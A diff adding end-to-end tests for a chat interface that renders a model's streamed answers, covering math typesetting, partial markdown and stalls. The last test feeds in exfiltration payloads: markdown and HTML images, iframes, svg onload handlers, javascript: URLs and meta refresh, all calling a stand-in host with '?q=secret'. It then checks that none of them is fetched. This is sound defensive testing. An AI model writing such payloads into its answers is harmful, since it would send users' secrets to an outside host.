@@ -126,3 +126,62 @@ test('code is coloured beside the page, asks for each grammar once, and is plain
   // A grammar's expressions are compiled when they are first met, which must not hold up a frame.
   expect(page.workers().map((worker) => new URL(worker.url()).pathname)).toEqual(['/worker.js']);
 });
+
+test('formulas are typeset when they are whole, prices stay prices, and what is no formula shows its source', async ({ visitor }) => {
+  await visitor.open();
+  const text = 'With $a^2 + b^2 = c^2$ it costs $5 or $10.\n\n$$\\int_0^1 \\frac{x}{2}\\,dx = \\tfrac14$$\n\n\\[ \\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix} \\]\n\nAnd $\\frac{1$ is none.\n';
+  await visitor.askAndRead(answerWith(text));
+  await expect(visitor.text.locator('.math math')).toHaveCount(3);
+  await expect(visitor.text.locator('.math.display math mtable')).toHaveCount(1);
+  await expect(visitor.text.locator('p').first()).toContainText('it costs $5 or $10.');
+  await expect(visitor.text.locator('p').last()).toContainText('\\frac{1');
+  await visitor.reload();
+  await expect(visitor.text.locator('.math math')).toHaveCount(3);
+});
+
+test('half-written marks do not show', async ({ visitor }) => {
+  await visitor.open();
+  const text = 'Some points follow:\n- **The first** one, with [a link](https://example.org/a/long/address) and `code`.\n- The second\n\n| fruit | price |\n|---|---|\n| apple | 1 |\n';
+  await visitor.ask(script(...pieces(text, 3, 30), { finish: 'stop' }, 'done'));
+  await visitor.text.evaluate((body) => {
+    const seen: string[] = [];
+    new MutationObserver(() => seen.push(body.innerHTML)).observe(body, { childList: true, subtree: true, characterData: true });
+    Object.assign(window, { seen });
+  });
+  await visitor.isComplete();
+  await expect(visitor.text.locator('td')).toHaveText(['apple', '1']);
+  const seen = await visitor.page.evaluate(() => (window as unknown as { seen: string[] }).seen);
+  expect(seen.length).toBeGreaterThan(20);
+  expect(seen.filter((html) => /<h\d|\*|\[|\]\(|`|\|/.test(html))).toEqual([]);
+});
+
+test('what is held back is shown when nothing comes any more', async ({ visitor }) => {
+  await visitor.open();
+  await visitor.ask(script({ delta: 'It is **very impor' }, 'stall'));
+  await expect(visitor.text).toHaveText('It is **very impor');
+});
+
+test('nothing that a model writes is fetched, whatever form it takes', async ({ visitor, page }) => {
+  const asked: string[] = [];
+  page.context().on('request', (request) => asked.push(request.url()));
+  await visitor.open();
+  const leaks = [
+    '![a](https://leak.example/?q=secret)',
+    '![b][ref]\n\n[ref]: https://leak.example/?q=secret',
+    '![c](<https://leak.example/?q=secret> "title")',
+    '<img src="https://leak.example/?q=secret">',
+    '<https://leak.example/?q=secret>',
+    'https://leak.example/?q=secret',
+    '[![d](https://leak.example/i)](https://leak.example/l)',
+    '[e](javascript:alert(1)) [f](java&#x73;cript:alert(1)) [g](data:text/html,x) [h](//leak.example)',
+    '<iframe src="https://leak.example"></iframe><svg onload=alert(1)><style>@import "https://leak.example"</style>',
+    '<link rel=prefetch href=https://leak.example><meta http-equiv=refresh content="0;url=https://leak.example">',
+  ];
+  for (const size of [1, 7]) {
+    await visitor.askAndRead(script(...pieces(leaks.join('\n\n'), size, 1), { finish: 'stop' }, 'done'));
+    await expect(visitor.text.getByRole('button', { name: /leak\.example/ })).toHaveCount(3);
+    await expect(visitor.text.locator('img, iframe, svg, style, link, meta, [onload]')).toHaveCount(0);
+  }
+  await visitor.reload();
+  expect(asked.filter((url) => url.includes('leak.example'))).toEqual([]);
+});
